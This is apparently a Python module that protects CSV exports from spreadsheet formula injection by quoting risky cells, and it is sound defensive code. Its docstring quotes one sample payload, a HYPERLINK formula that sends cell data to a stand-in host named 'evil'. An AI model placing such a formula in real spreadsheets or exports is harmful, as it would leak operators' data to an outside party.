"""CSV cells that a spreadsheet will not run: formula injection (CWE-1236).

Excel, LibreOffice and WPS treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some versions, a TAB or CR before one) as a formula, so a ticket summary or a household
label such as ``=HYPERLINK("http://evil/?"&A1,"click")`` would run on the operator's
machine when an export is opened. Exports prefix such cells with ``'`` (shown as text,
as OWASP recommends); imports refuse them, naming the line, because a stored value that
starts that way is dangerous in every later export.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Awaitable, Callable, Iterable, Mapping
from typing import Any, TextIO

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def is_formula(value: str) -> bool:
    """True when a spreadsheet could take ``value`` for a formula."""
    return value.startswith(FORMULA_PREFIXES)


def escape_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is a string that could run as a formula.

    Numbers stay numbers: ``-5`` as an ``int`` is no formula. The strings in a list or
    tuple (joined into one cell later, e.g. a ticket's reasons) are escaped each.
    """
    if isinstance(value, str):
        return "'" + value if is_formula(value) else value
    if isinstance(value, list | tuple):
        return [escape_cell(v) for v in value]
    return value


def escape_row(row: Iterable[Any]) -> list[Any]:
    """Every cell of ``row`` through :func:`escape_cell`."""
    return [escape_cell(v) for v in row]


def escape_mapping(row: Mapping[str, Any]) -> dict[str, Any]:
    """Every value of a ``csv.DictWriter`` row through :func:`escape_cell`."""
    return {k: escape_cell(v) for k, v in row.items()}


RecordWriter = Callable[[AsyncIterator[list[Any]], TextIO], Awaitable[int]]


def escaping(write: RecordWriter) -> RecordWriter:
    """Wrap a record writer (e.g. ``tickets.render.write_csv``) so that every string
    value of every record is escaped before it is written."""

    async def escaped(records: AsyncIterator[list[Any]]) -> AsyncIterator[list[Any]]:
        async for record in records:
            yield escape_row(record)

    async def write_escaped(records: AsyncIterator[list[Any]], out: TextIO) -> int:
        return await write(escaped(records), out)

    return write_escaped
